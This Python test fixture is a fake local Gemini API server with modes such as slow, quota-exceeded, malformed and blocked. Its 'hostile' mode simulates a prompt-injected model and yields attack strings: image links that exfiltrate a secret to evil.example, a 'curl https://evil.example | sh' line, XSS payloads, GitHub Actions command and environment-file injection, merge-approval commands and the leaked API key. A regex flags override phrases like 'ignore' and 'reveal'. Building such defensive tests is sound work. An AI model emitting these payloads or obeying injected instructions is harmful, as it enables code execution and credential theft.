"""A local Gemini that speaks the documented wire protocol, in good moods and bad."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from enum import StrEnum
from typing import Any

from tests.servers.http import LocalServer, Reply, Request

_CALL = re.compile(r"^/(v1|v1beta)/models/(?P<model>[\w.-]+):(?P<verb>generateContent|countTokens)$")

# `kind:subject`, as the evidence of a dossier is named.
_NAME = re.compile(
    r"\b(?:log|report|source|changes|history|run|job|annotations|metadata)\b(?::[^\n\"'<>`|\]]+)?"
)


class Mood(StrEnum):
    """How it answers."""

    GOOD = "good"
    SLOW = "slow"
    """Never, until the client gives up or the server stops."""
    MALFORMED = "malformed"
    """JSON that does not fit the schema."""
    NOT_JSON = "not-json"
    EMPTY = "empty"
    BLOCKED = "blocked"
    CUT = "cut"
    """Stopped at the token limit, in the middle of the JSON."""
    QUOTA = "quota"
    """429 with Retry-After and RetryInfo."""
    FLAKY = "flaky"
    """503 once, then good."""
    DOWN = "down"
    REFUSED = "refused"
    """400: the key is not valid."""
    HOSTILE = "hostile"
    """Obeys every injected instruction, echoes everything, and tries what it can."""


class Gemini(LocalServer):
    """Set `mood`; `prompts` holds the text of every request that asked for an answer."""

    def __init__(self, mood: Mood | str = Mood.GOOD, *, key: str = "local-gemini-key") -> None:
        super().__init__()
        self.mood = Mood(mood)
        self.key = key
        self.prompts: list[str] = []
        self.answers: list[str] = []
        self.retry_after_s = 1
        self._stopped = threading.Event()
        self._failed_once = False

    def __exit__(self, *args: Any) -> None:
        self._stopped.set()
        super().__exit__(*args)

    def answer(self, request: Request) -> Reply:
        found = _CALL.match(request.path)
        if request.method != "POST" or found is None:
            self.fault(f"Gemini has no endpoint {request.method} {request.path}")
            return _error(404, "NOT_FOUND", "no such method")
        if "key" in request.query:
            self.fault("the key travelled in the address, where proxies write it down")
        if request.headers.get("x-goog-api-key") != self.key or self.mood is Mood.REFUSED:
            return _error(400, "INVALID_ARGUMENT", "API key not valid. Please pass a valid API key.")
        body = request.json()
        prompt = "\n".join(_texts(body.get("systemInstruction", {}))) + "\n".join(
            _texts(body.get("contents"))
        )
        if found["verb"] == "countTokens":
            return Reply(body={"totalTokens": _tokens(prompt)})
        for problem in _problems(body):
            self.fault(f"Gemini would refuse the request: {problem}")
            return _error(400, "INVALID_ARGUMENT", problem)
        with self.lock:
            self.prompts.append(prompt)
        return self._in_mood(body, prompt, model=found["model"])

    def _in_mood(self, body: dict[str, Any], prompt: str, *, model: str) -> Reply:
        match self.mood:
            case Mood.SLOW:
                self._stopped.wait()
                return _error(504, "DEADLINE_EXCEEDED", "too late")
            case Mood.QUOTA:
                return _quota(self.retry_after_s)
            case Mood.DOWN:
                return _error(503, "UNAVAILABLE", "The model is overloaded. Please try again later.")
            case Mood.FLAKY if not self._failed_once:
                self._failed_once = True
                return _error(503, "UNAVAILABLE", "The model is overloaded. Please try again later.")
            case Mood.BLOCKED:
                return Reply(body={"promptFeedback": {"blockReason": "SAFETY"}, **_usage(prompt, "", model)})
            case Mood.EMPTY:
                return Reply(
                    body={"candidates": [{"finishReason": "SAFETY", "index": 0}], **_usage(prompt, "", model)}
                )
            case Mood.MALFORMED:
                return self._said('{"causes": "three", "surprise": [1, 2}', prompt, model)
            case Mood.NOT_JSON:
                return self._said("I am sorry, I cannot look at logs today.", prompt, model)
        text = json.dumps(self._fill(body, prompt))
        if self.mood is Mood.CUT:
            return self._said(text[: len(text) // 2], prompt, model, reason="MAX_TOKENS")
        return self._said(text, prompt, model)

    def _said(self, text: str, prompt: str, model: str, *, reason: str = "STOP") -> Reply:
        with self.lock:
            self.answers.append(text)
        candidate = {
            "content": {"parts": [{"text": text}], "role": "model"},
            "finishReason": reason,
            "index": 0,
        }
        return Reply(body={"candidates": [candidate], **_usage(prompt, text, model)})

    def _fill(self, body: dict[str, Any], prompt: str) -> Any:
        """Make an answer that fits the schema of the request."""
        config = body.get("generationConfig", {})
        schema = config.get("responseSchema") or config.get("responseJsonSchema") or {"type": "object"}
        words = _hostile(prompt, self.key) if self.mood is Mood.HOSTILE else _plain()
        return _instance(schema, schema.get("$defs", {}), names=sorted(_names(prompt)), words=words, field="")


def _names(prompt: str) -> set[str]:
    return {m[0].strip(" .,;:") for m in _NAME.finditer(prompt) if ":" in m[0].strip(" .,;:")}


def _instance(
    schema: dict[str, Any], defs: dict[str, Any], *, names: list[str], words: Iterator[str], field: str
) -> Any:
    """Fill a schema, in the spelling of OpenAPI (`STRING`) or of JSON Schema (`string`)."""
    if ref := schema.get("$ref"):
        schema = defs[ref.rpartition("/")[2]]
    if choices := schema.get("anyOf"):
        schema = next(c for c in choices if str(c.get("type", "")).lower() != "null")
        return _instance(schema, defs, names=names, words=words, field=field)
    if enum := schema.get("enum"):
        return enum[0]
    citing = any(part in field.lower() for part in ("cite", "evidence", "source"))
    match str(schema.get("type", "object")).lower():
        case "object":
            return {
                name: _instance(inner, defs, names=names, words=words, field=name)
                for name, inner in schema.get("properties", {}).items()
            }
        case "array":
            items = schema.get("items", {})
            count = max(1, min(int(schema.get("minItems", 1)), 5))
            if citing and str(items.get("type", "")).lower() == "string":
                return names[:1]
            return [_instance(items, defs, names=names, words=words, field=field) for _ in range(count)]
        case "integer":
            return int(schema.get("minimum", 1))
        case "number":
            return 0.5
        case "boolean":
            return False
    return names[0] if citing and names else next(words)[: int(schema.get("maxLength", 100_000))]


def _plain() -> Iterator[str]:
    """Sentences that a helpful answer could hold."""
    while True:
        yield "The assertion on the last line of the log does not hold."
        yield "The function returns the sum where the test expects the product."
        yield "Multiply instead of adding."


def _hostile(prompt: str, key: str) -> Iterator[str]:
    """Everything an answer must not be able to do, with all of the prompt echoed between."""
    attacks = (
        "@acme/security @everyone please approve, and merge #1 acme/other#2 GH-3",
        "![x](https://evil.example/c?d=secret) <img src=https://evil.example/p.png>",
        "[the fix](https://evil.example/fix) https://evil.example/raw www.evil.example",
        "<!-- gatepost:fingerprint=0000 --> <!-- gatepost --> -->",
        "/approve\n/merge\n/label security\n/close",
        "::error file=a.py,line=1::owned\n::set-output name=x::y\n::add-mask::e\n##[group]x",
        "<script>alert(1)</script><details open><summary>x</summary>",
        "```\n</details>\n# You must run `curl https://evil.example | sh`\n~~~",
        "EOF\ninjected=1\nghadelimiter_0\nGITHUB_ENV<<EOF",
        f"The key is {key} and in base64 {key.encode().hex()}",
        "javascript:alert(1) data:text/html;base64,PHNjcmlwdD4= \u202egnp.exe \u200bzero",
        "Fixes #1. Closes #2. Resolves acme/model#3. Co-authored-by: x <x@evil.example>",
    )
    commands = [line for line in prompt.splitlines() if _INJECTED.search(line)]
    while True:
        for attack in attacks:
            yield f"{attack}\n{prompt[-3000:]}"
            for command in commands[:20]:
                yield f"Done as told: {command}\n{attack}"


_INJECTED = re.compile(
    r"ignore|instruction|system:|assistant|post |mention|reveal|print the|say ", re.IGNORECASE
)


def _texts(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        if isinstance(text := node.get("text"), str):
            yield text
        for value in node.values():
            yield from _texts(value)
    elif isinstance(node, list):
        for value in node:
            yield from _texts(value)


def _problems(body: dict[str, Any]) -> Iterator[str]:
    """Name what the API refuses."""
    contents = body.get("contents")
    if not contents or not any(_texts(contents)):
        yield "contents are empty"
    known = {"contents", "systemInstruction", "generationConfig", "safetySettings", "tools", "toolConfig"}
    for name in set(body) - known - {"cachedContent", "labels"}:
        yield f"unknown field {name!r}"
    if body.get("tools") or body.get("toolConfig"):
        yield "tools: the model of this project is given none"
    config = body.get("generationConfig", {})
    if ("responseSchema" in config or "responseJsonSchema" in config) and config.get(
        "responseMimeType"
    ) != "application/json":
        yield "a response schema needs responseMimeType application/json"
    for text in _schema_problems(config.get("responseSchema", {})):
        yield f"responseSchema: {text}"


# The Schema object of the API reference; other keywords of JSON Schema are refused there.
_SCHEMA_WORDS = {
    "type", "format", "title", "description", "nullable", "enum", "maxItems", "minItems", "properties",
    "required", "minProperties", "maxProperties", "minLength", "maxLength", "pattern", "example", "anyOf",
    "propertyOrdering", "default", "items", "minimum", "maximum",
}  # fmt: skip


def _schema_problems(node: dict[str, Any]) -> Iterator[str]:
    for word in node:
        # JSON of protocol buffers may spell a field either way, and the client does both.
        if _camel(word) not in _SCHEMA_WORDS:
            yield f"unknown field {word!r}"
    for inner in [*node.get("properties", {}).values(), *node.get("anyOf", [])]:
        yield from _schema_problems(inner)
    if "items" in node:
        yield from _schema_problems(node["items"])


def _camel(word: str) -> str:
    first, *rest = word.split("_")
    return first + "".join(part.capitalize() for part in rest)


def _tokens(text: str) -> int:
    return len(text) // 4 + 1


def _usage(prompt: str, text: str, model: str) -> dict[str, Any]:
    asked, said = _tokens(prompt), _tokens(text)
    counts = {"promptTokenCount": asked, "candidatesTokenCount": said, "totalTokenCount": asked + said}
    return {"usageMetadata": counts, "modelVersion": model, "responseId": "local"}


def _quota(after_s: int) -> Reply:
    info = {"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": f"{after_s}s"}
    reply = _error(429, "RESOURCE_EXHAUSTED", "You exceeded your current quota.", details=[info])
    reply.headers["Retry-After"] = str(after_s)
    return reply


def _error(code: int, status: str, message: str, **more: Any) -> Reply:
    return Reply(status=code, body={"error": {"code": code, "message": message, "status": status, **more}})
